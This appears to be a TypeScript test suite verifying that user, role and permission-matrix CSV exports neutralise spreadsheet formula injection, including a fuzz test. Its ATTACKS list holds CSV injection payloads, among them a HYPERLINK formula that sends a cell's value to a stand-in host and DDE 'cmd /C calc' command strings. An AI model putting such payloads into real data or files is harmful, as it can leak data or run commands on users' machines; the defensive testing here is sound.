/** CSV exports opened in a spreadsheet: server text (nicknames, role names) never runs as a formula. */
import * as assert from 'node:assert/strict';
import * as fc from 'fast-check';
import { neutraliseFormula } from '../../../../src/core/format/csvCell';
import { formatRoles } from '../../../../src/core/format/roles';
import { formatUsers } from '../../../../src/core/format/users';
import { buildPermissionMatrix, matrixToCsv } from '../../../../src/core/huawei/matrix';
import { anyString, fuzz, FUZZ_TIMEOUT_MS } from '../../fuzz/fuzz';
import { ALICE, PROJECT_WRITER } from './fixtures';

/** Minimal RFC 4180 reader (quoted fields, doubled quotes, CRLF or LF), enough to see each cell as a spreadsheet does. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  return rows;
}

/** What a spreadsheet would evaluate: a cell whose first non-blank character starts a formula, or that starts with tab/CR. */
const FORMULA = /^[\s\u3000]*[=+\-@＝＋－＠]|^[\t\r]/u;
const isPlainNumber = (cell: string): boolean => /^[+-]?\d+(?:\.\d+)?$/.test(cell);
const runsAsFormula = (cell: string): boolean => FORMULA.test(cell) && !isPlainNumber(cell);

const ATTACKS = [
  '=HYPERLINK("https://x/?"&E2,"Open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u3000=1',
  '＝HYPERLINK("https://x")',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '\tplain',
  '\rplain',
];

describe('CSV formula injection (users, roles, permission matrix)', function () {
  this.timeout(FUZZ_TIMEOUT_MS);

  it('a user export neutralises a formula nickname and keeps every character of it', () => {
    for (const nickname of ATTACKS) {
      const [, row] = parseCsv(formatUsers([{ ...ALICE, nickname }], 'csv'));
      assert.equal(row[1], `'${nickname}`, JSON.stringify(nickname));
      assert.equal(row[5], '+8613800000000', 'a phone number is data, not a formula');
    }
  });

  it('a role export neutralises formula display names, codes and names', () => {
    for (const text of ATTACKS) {
      const [, row] = parseCsv(formatRoles([{ ...PROJECT_WRITER, name: `roles/${text}`, displayName: text, code: text }], 'csv'));
      assert.deepEqual(row, [`'${text}`, `'${text}`, `'${text}`, 'project'], JSON.stringify(text));
    }
  });

  it('the permission-matrix CSV follows the same rule (full-width and indented formulas included)', () => {
    for (const text of ATTACKS) {
      const matrix = buildPermissionMatrix({ traceId: 't', roles: [{ key: text, roleName: text, roleChineseName: text, privileges: [] }] });
      const [, row] = parseCsv(matrixToCsv(matrix, 'en'));
      const label = text.trim(); // the matrix shows role names trimmed
      assert.equal(row[0], /^[\t\r]plain$/.test(text) ? label : `'${label}`, JSON.stringify(text));
    }
  });

  it('ordinary text and plain numbers are left as they are', () => {
    for (const text of ['Alice', '张三', 'a=b', 'x-y', 'mail@example.com', '-1', '+8613800000000', '3.14', '', ' leading space']) {
      assert.equal(neutraliseFormula(text), text);
    }
  });

  it('fuzz: no exported cell runs as a formula, and removing the added apostrophe gives the text back', () => {
    const trigger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', ' ', '\u3000', '\n', "'");
    const text = fc.oneof(
      anyString(30),
      fc.tuple(fc.array(trigger, { maxLength: 3 }), anyString(20)).map(([t, rest]) => t.join('') + rest),
    );
    fuzz(
      text,
      (t) => {
        const out = neutraliseFormula(t);
        assert.ok(out === t || out === `'${t}`, 'only an apostrophe is ever added');
        assert.ok(!runsAsFormula(out), `runs as a formula: ${JSON.stringify(out)}`);
        const [, users] = parseCsv(formatUsers([{ ...ALICE, nickname: t }], 'csv'));
        assert.equal(users[1], out, 'the user export writes the neutralised nickname, nothing else changed');
        const [, roles] = parseCsv(
          matrixToCsv(buildPermissionMatrix({ traceId: '', roles: [{ key: t, roleName: t, roleChineseName: t, privileges: [] }] }), 'en'),
        );
        assert.ok(!runsAsFormula(roles[0]), `matrix cell runs as a formula: ${JSON.stringify(roles[0])}`);
      },
      600,
    );
  });
});
